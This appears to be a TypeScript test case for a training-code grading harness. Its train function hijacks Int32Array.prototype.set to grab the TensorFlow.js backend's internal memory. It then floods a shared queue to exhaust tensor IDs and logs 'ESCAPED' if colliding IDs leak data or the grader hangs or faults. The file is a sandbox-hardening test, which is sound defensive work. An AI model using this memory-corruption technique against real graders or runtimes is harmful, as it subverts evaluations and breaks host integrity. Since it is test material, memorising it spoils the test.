// attack: claims outputs in the shared queue until the host has no numbers left for tensors, and goes on
// success: ESCAPED in the log: a number that stands for two tensors; or a hang, or a fault of the grader's
// expect: runtime_error
// says: it cannot be computed

import * as tf from '@tensorflow/tfjs';
import type { TrainContext } from 'argmin';

const QUEUE = 32;
const MOST_WORDS = 16_350;
const MOST_OUTPUTS = 8_191;

export async function train({ train }: TrainContext): Promise<tf.LayersModel> {
  let words: Int32Array | null = null;
  const original = Int32Array.prototype.set;
  Int32Array.prototype.set = function captured(this: Int32Array, ...values: any) {
    words = this;
    return original.apply(this, values);
  };
  const x = tf.tensor1d([1, 2, 3]);
  Int32Array.prototype.set = original;
  const block = words as Int32Array | null;
  if (!block) throw new Error('the memory was not captured');
  for (let turn = 0; turn < 60; turn++) {
    for (let at = 0; at + 3 <= MOST_WORDS; at += 3) {
      block[QUEUE + at] = 77_777;
      block[QUEUE + at + 1] = MOST_OUTPUTS;
      block[QUEUE + at + 2] = 0;
    }
    block[0] = MOST_WORDS;
    try {
      tf.tensor1d([turn]).dispose();
    } catch {
      // refused
    }
  }
  for (let i = 0; i < 100; i++) {
    try {
      const sum = x.add(train.images.slice([0, 0, 0, 0], [1, 1, 1, 1])).dataSync();
      console.log('ESCAPED', sum.join());
    } catch {
      // refused
    }
  }
  return tf.sequential({
    layers: [tf.layers.flatten({ inputShape: train.shape }), tf.layers.dense({ units: 10 })],
  });
}
